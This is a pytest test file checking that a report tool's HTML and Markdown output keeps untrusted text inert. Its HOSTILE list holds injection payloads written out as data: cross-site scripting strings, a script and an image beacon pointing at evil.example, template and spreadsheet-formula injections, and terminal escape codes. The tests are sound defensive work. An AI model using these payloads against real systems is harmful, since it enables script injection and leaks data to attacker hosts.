"""No text of a run gets out of its place, whatever it holds."""

import re
from dataclasses import fields, is_dataclass, replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kdaudit.cast import CONTROL_WORDS
from kdaudit.report import html, markdown
from kdaudit.report.composition import compose

HOSTILE = (
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<svg><script href=//evil.example/x.js></script></svg>",
    "' onmouseover='alert(1)",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;",
    "{{7*7}}{% include 'x' %}${7*7}",
    "{0.__class__}",
    "%s%n",
    "![pixel](http://evil.example/x.png?secret)",
    "[link](javascript:alert(1))",
    "<http://evil.example>",
    "http://evil.example www.evil.example",
    "@everyone @org/team",
    "| a | b |\n| --- | --- |",
    "# heading\n\n- list\n> quote",
    "```\n<b>out</b>\n```",
    "`code` **bold** ~~gone~~ $x$",
    "fixes #1 GH-1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "\x1b[31mred\x1b[0m\x07",
    "\x9b31m",
    "\u202egnp.exe",
    "[bold]rich[/bold]",
    "\x00\ud800",
    "x" * 3000,
)
TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "p", "h1", "h2", "h3", "section", "span", "dl", "div",
    "dt", "dd", "ul", "li", "svg", "path", "rect", "circle", "text", "table", "caption", "small", "thead", "tbody",
    "tr", "th", "td", "details", "summary", "pre",
}  # fmt: skip


class Seen(HTMLParser):
    """Which tags and attributes a page has, and its visible text."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.text = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


def poisoned(value, text):
    """The same data with every text that is no fixed word of ours replaced by `text`."""
    fixed = {"percent", "points", "nats", "", "within", "above control", "strip", "transfer", "rules", "tree", "list",
             "teacher", "proxy", "teacher-proxy", *CONTROL_WORDS}  # fmt: skip
    if isinstance(value, str) and type(value) is str:
        return value if value in fixed else text
    if isinstance(value, dict):
        return {k: poisoned(v, text) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(poisoned(v, text) for v in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{f.name: poisoned(getattr(value, f.name), text) for f in fields(value) if f.init})
    return value


def attacked(run, text):
    evidence = {stem: poisoned(e, text) for stem, e in run.evidence.items()}
    out = replace(run, path=Path(run.path), account=poisoned(run.account, text), evidence=evidence)
    out = replace(out, findings=poisoned(run.findings, text), cards={text: poisoned(run.cards["tree"], text)})
    out = replace(
        out, rules={text: replace(run.rules["tree"], outputs=(text,))}, environment={"packages": {text: text}}
    )
    return out


def page_of(run):
    seen = Seen()
    text = html.render(compose(run)).decode()
    seen.feed(text)
    return text, seen


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_stays_text(run, text):
    page, seen = page_of(attacked(run, text))
    assert seen.tags <= TAGS
    assert not any(name.startswith("on") or name in ("href", "src", "style") for name in seen.attributes)
    assert "\x1b" not in page and "\x9b" not in page and "\u202e" not in page
    if text == HOSTILE[0]:
        assert text in "".join(seen.text)  # it is shown as it stands


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_makes_no_markdown(run, text):
    page = markdown.render(compose(attacked(run, text))).decode()
    prose = re.sub(r"(?ms)^(`{3,})text$.*?^\1$", "", page)
    assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)<\w|(?<!\\)`", prose)
    assert not re.search(r"@\w|://\w|www\.\w|#\d", prose)
    assert "\x1b" not in page and "\x9b" not in page
    assert len(page) <= 65_536


def test_a_table_keeps_its_columns_whatever_its_cells_hold(run):
    page = markdown.render(compose(attacked(run, "a | b\nc"))).decode()
    tables = [block for block in page.split("\n\n") if block.startswith("| ")]
    assert tables
    for table in tables:
        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table.split("\n")}) == 1


def test_the_page_needs_neither_script_nor_network(run):
    page, seen = page_of(run)
    assert "<script" not in page and not re.search(r"https?://|//\w+\.\w|url\(|@import", page)
    assert not {"script", "link", "img", "iframe", "object", "embed", "form"} & seen.tags
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page).group(1).replace("&#39;", "'")
    assert policy.startswith("default-src 'none'; style-src 'sha256-")


def test_every_picture_has_words_and_a_table_beside_it(run):
    page, _ = page_of(run)
    pictures = re.findall(r"<svg[^>]*>", page)
    assert pictures and all('aria-label="' in p or 'aria-hidden="true"' in p for p in pictures)


def test_the_page_stays_small(run):
    assert len(html.render(compose(run))) < 200_000
